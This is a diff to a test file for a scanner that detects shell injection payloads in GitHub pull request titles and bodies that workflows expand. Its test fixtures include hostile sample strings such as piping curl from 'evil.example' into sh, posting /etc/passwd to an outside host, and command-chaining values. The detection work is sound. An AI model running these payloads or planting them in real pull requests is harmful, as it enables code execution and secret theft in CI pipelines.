@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { prMetadataFindings, shellPayloadIn } from '../../../src/ecosystems/github-actions/pr-metadata.js';
+import { prMetadataFindings, shellPayloadIn, shellPayloadOf } from '../../../src/ecosystems/github-actions/pr-metadata.js';
 import { makeSnapshot } from '../../support/snapshot-factory.js';
 
 const FORMAT = `name: format
@@ -35,6 +35,20 @@ describe('pr-metadata-shell-payload', () => {
     expect(finding?.detail).toContain('.github/workflows/format.yml:8 (job format, ${{ github.head_ref }})');
     const unread = makeSnapshot({ title: 'x; curl evil.example | sh', baseFiles: [] });
     expect(prMetadataFindings(unread).map((f) => [f.severity, f.path])).toEqual([['high', '.github/workflows']]);
+  });
+
+  it('reads a code span that only names a command and its options as Markdown, unless a base workflow runs the field', () => {
+    expect(shellPayloadOf('Do not trigger a `BytesWarning` under `python -bb`', 'title')).toEqual({ text: '`python -bb`', codeSpan: true });
+    expect(shellPayloadOf('chore: bump `curl -d @/etc/passwd x.example` deps', 'title')?.codeSpan).toBe(false);
+    expect(shellPayloadOf('docs: `rm -rf node_modules` then `curl -s https://x.example/i | sh`', 'title')?.codeSpan).toBe(false);
+    expect(shellPayloadOf('Running `rm -rf node_modules` then `curl -sO https://x.example/i`', 'body')).toEqual({ text: '`curl -sO https://x.example/i`', codeSpan: false });
+    expect(shellPayloadOf('`sh -c id` `bash x.example/run`', 'title')?.codeSpan).toBe(false);
+    const quiet = (title: string, body: string) => prMetadataFindings(makeSnapshot({ title, body, baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] }));
+    expect(quiet('Do not trigger a `BytesWarning` under `python -bb`', 'Follow-up to #12: the mismatch showed in `curl -V`.')).toEqual([]);
+    expect(quiet('chore: bump `curl -d @/etc/passwd x.example` deps', '').map((f) => [f.title, f.severity])).toEqual([["The pull request's title carries shell syntax", 'high']]);
+    // A workflow that pastes the title into a script runs even a plain code span.
+    const expanding = FORMAT.replace('${{ github.head_ref }}', '${{ github.event.pull_request.title }}');
+    expect(prMetadataFindings(makeSnapshot({ title: 'Support `python -m pkg`', baseFiles: [{ path: '.github/workflows/format.yml', content: expanding }] })).map((f) => f.severity)).toEqual(['critical']);
   });
 
   it('does not report metadata without shell syntax, even when base workflows expand it', () => {
